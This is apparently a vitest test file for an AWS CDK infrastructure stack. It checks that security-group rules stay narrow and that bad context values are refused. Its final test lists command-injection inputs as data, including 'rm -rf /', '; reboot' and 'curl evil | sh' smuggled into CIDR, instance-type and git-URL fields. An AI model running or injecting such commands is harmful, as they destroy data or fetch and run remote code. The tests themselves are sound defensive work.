import { App } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import { describe, expect, it } from 'vitest';
import { NexoStack } from '../../infra/stack.js';

function synth(context: Record<string, string> = {}): Template {
  const app = new App({ context: { source: 'https://example.org/nexo.git', ...context } });
  return Template.fromStack(new NexoStack(app, 'Test'));
}

interface Rule {
  /** the group the rule is on (its logical id) */
  group: string;
  proto: string;
  from: number;
  to: number;
  /** a CIDR, or the logical id of the source group */
  source: string;
}

/** Every ingress rule, inline in a group or a separate AWS::EC2::SecurityGroupIngress. */
function rules(t: Template): Rule[] {
  const out: Rule[] = [];
  const id = (v: unknown) => {
    const o = v as { 'Fn::GetAtt'?: [string, string]; Ref?: string };
    return o['Fn::GetAtt']?.[0] ?? o.Ref ?? JSON.stringify(v);
  };
  const add = (group: string, r: Record<string, unknown>) =>
    out.push({
      group,
      proto: r.IpProtocol as string,
      from: r.FromPort as number,
      to: r.ToPort as number,
      source: (r.CidrIp as string | undefined) ?? id(r.SourceSecurityGroupId),
    });
  for (const [gid, g] of Object.entries(t.findResources('AWS::EC2::SecurityGroup'))) {
    for (const r of (g.Properties.SecurityGroupIngress ?? []) as Record<string, unknown>[]) add(gid, r);
  }
  for (const r of Object.values(t.findResources('AWS::EC2::SecurityGroupIngress')))
    add(id(r.Properties.GroupId), r.Properties);
  return out;
}

const group = (rs: Rule[], name: string) => rs.filter((r) => r.group.startsWith(`Security${name}`));
const ports = (rs: Rule[]) => [...new Set(rs.map((r) => `${r.proto}/${r.from}`))].sort();

describe('infra: security groups', () => {
  it('by default: clients (the client subnet) reach only 5000, 5443 and 8080; no SSH; nothing from 0.0.0.0/0', () => {
    const rs = rules(synth());
    expect(rs.every((r) => r.from === r.to)).toBe(true);
    expect(rs.some((r) => r.source === '0.0.0.0/0')).toBe(false);
    expect(rs.some((r) => r.from === 22)).toBe(false);
    const fromCidrs = rs.filter((r) => r.source.includes('/'));
    expect([...new Set(fromCidrs.map((r) => r.source))]).toEqual(['10.0.2.0/24']);
    expect(ports(group(fromCidrs, 'Balancer'))).toEqual(['tcp/5000', 'tcp/5443', 'tcp/8080']);
    // UDP sensors report to a node directly (HAProxy does not carry UDP)
    expect(ports(group(fromCidrs, 'Nodes'))).toEqual(['tcp/5000', 'tcp/5443', 'tcp/8080', 'udp/5000']);
    expect(group(fromCidrs, 'Sensors')).toEqual([]);
    expect(group(fromCidrs, 'Database')).toEqual([]);
  });

  it('PostgreSQL only from the nodes; NATS only among the nodes; HAProxy reaches the nodes and their agent-check', () => {
    const rs = rules(synth());
    const db = group(rs, 'Database');
    expect(db).toHaveLength(1);
    expect(db[0]).toMatchObject({ proto: 'tcp', from: 5432 });
    expect(db[0]!.source.startsWith('SecurityNodes')).toBe(true);
    const nodes = group(rs, 'Nodes');
    const self = nodes.filter((r) => r.source === r.group);
    expect(ports(self)).toEqual(['tcp/4222', 'tcp/6222']);
    const viaBalancer = nodes.filter((r) => r.source.startsWith('SecurityBalancer'));
    expect(ports(viaBalancer)).toEqual(['tcp/5000', 'tcp/5443', 'tcp/5555', 'tcp/8080']);
    // nothing else reaches 4222/6222/5432, nor the agent-check port
    expect(rs.filter((r) => [4222, 6222, 5432, 5555].includes(r.from))).toHaveLength(4);
  });

  it('--context clientCidr adds that CIDR to the client ports; sshCidr opens 22 from it alone', () => {
    const rs = rules(synth({ clientCidr: '198.51.100.0/24', sshCidr: '203.0.113.7/32' }));
    const client = rs.filter((r) => r.source === '198.51.100.0/24');
    expect(ports(group(client, 'Balancer'))).toEqual(['tcp/5000', 'tcp/5443', 'tcp/8080']);
    const ssh = rs.filter((r) => r.from === 22);
    expect(ssh.map((r) => r.source)).toEqual(Array(4).fill('203.0.113.7/32'));
    expect(new Set(ssh.map((r) => r.group.replace(/[A-F0-9]{8}$/, ''))).size).toBe(4);
    expect(rs.filter((r) => r.source === '203.0.113.7/32').every((r) => r.from === 22)).toBe(true);
  });

  it.each([
    [{ sshCidr: '10.0.0.1' }, /sshCidr=10\.0\.0\.1: expected an IPv4 CIDR/],
    [{ sshCidr: '300.0.0.1/32' }, /expected an IPv4 CIDR/],
    [{ clientCidr: '10.0.0.0/33' }, /clientCidr=10\.0\.0\.0\/33/],
    [{ clientCidr: "1.2.3.4/32' ; rm -rf /" }, /expected an IPv4 CIDR/],
    [{ rds: 'maybe' }, /rds=maybe: expected true or false/],
    [{ instanceType: 't3.small; reboot' }, /expected an EC2 type/],
    [{ source: "https://x.org/a.git' && curl evil | sh '" }, /not a plain git URL/],
  ])('refuses bad context %o', (context, message) => {
    expect(() => synth(context)).toThrow(message);
  });
});
